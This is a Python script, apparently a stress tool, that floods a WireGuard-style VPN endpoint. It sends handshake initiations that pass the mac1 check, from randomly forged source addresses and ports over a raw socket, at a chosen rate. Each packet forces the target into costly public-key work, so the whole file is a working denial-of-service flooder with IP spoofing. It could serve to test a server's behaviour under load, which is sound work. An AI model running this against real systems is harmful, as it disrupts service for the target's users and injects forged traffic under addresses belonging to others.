# SPDX-License-Identifier: MIT
"""Sends handshake initiations with a right mac1 from forged source addresses, as fast as asked.

    flood.py TARGET PORT PUBLIC_KEY SOURCES COUNT RATE

SOURCES is a /16 as "10.98": the sources are random addresses and ports in it. All else in the
messages is random, so the target must do its public-key work to find out. COUNT bounds it.
"""

import base64
import hashlib
import os
import random
import socket
import struct
import sys
import time


def initiation(public_key):
    """148 bytes that pass mac1 for this key and no other check."""
    message = b"\x01\0\0\0" + os.urandom(112)
    key = hashlib.blake2s(b"mac1----" + public_key).digest()
    return message + hashlib.blake2s(message, key=key, digest_size=16).digest() + bytes(16)


def _datagram(source, target, port, payload):
    """An IPv4 packet; the kernel fills in identification and header checksum."""
    udp = struct.pack("!HHHH", random.randrange(1024, 65536), port, 8 + len(payload), 0)
    length = 20 + 8 + len(payload)
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, length, 0, 0, 64, 17, 0, source, socket.inet_aton(target)
    )
    return head + udp + payload


def main(target, port, public_key, sources, count, rate):
    """Sends `count` datagrams, `rate` a second."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    key = base64.b64decode(public_key)
    prefix = bytes(int(part) for part in sources.split("."))
    begun = time.monotonic()
    print("flooding", flush=True)
    for number in range(int(count)):
        source = prefix + os.urandom(2)
        raw.sendto(_datagram(source, target, int(port), initiation(key)), (target, 0))
        ahead = number / float(rate) - (time.monotonic() - begun)
        if ahead > 0.002:
            time.sleep(ahead)
    print("done", flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
